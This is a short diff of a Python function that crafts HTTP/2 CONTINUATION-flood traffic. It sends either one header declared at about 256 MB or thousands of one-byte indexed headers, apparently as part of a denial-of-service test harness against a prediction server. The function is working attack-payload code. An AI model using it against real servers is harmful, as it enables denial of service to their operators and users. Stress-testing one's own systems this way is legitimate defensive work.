@@ -359,13 +359,11 @@ def continuations(attack: Attack, endless_value: bool) -> None:
 
     Args:
         attack: the attack.
-        endless_value: one header of 256 MB; else one header of 16 kB after the other.
+        endless_value: one header of 256 MB; else headers of one byte each, which stand for 44 (RFC 7541, entry 16).
     """
-    never_indexed, length_16000, length_2_28 = b"\x10\x01a", b"\x7f\x81\x7c", b"\x7f\x81\xff\xff\x7f"
-    value = b"v" * 16_000
-    first = never_indexed + length_2_28 if endless_value else b""
-    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT) + first)
-    rest = frame(http2.CONTINUATION, 0, 1, value if endless_value else never_indexed + length_16000 + value)
+    name, length_2_28, one_byte = b"\x10\x01a", b"\x7f\x81\xff\xff\x7f", b"\x90"
+    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT) + (name + length_2_28 if endless_value else b""))
+    rest = frame(http2.CONTINUATION, 0, 1, (b"v" if endless_value else one_byte) * 16_000)
     begun: set[Connection] = set()
 
     def chunk(one: Connection) -> bytes:
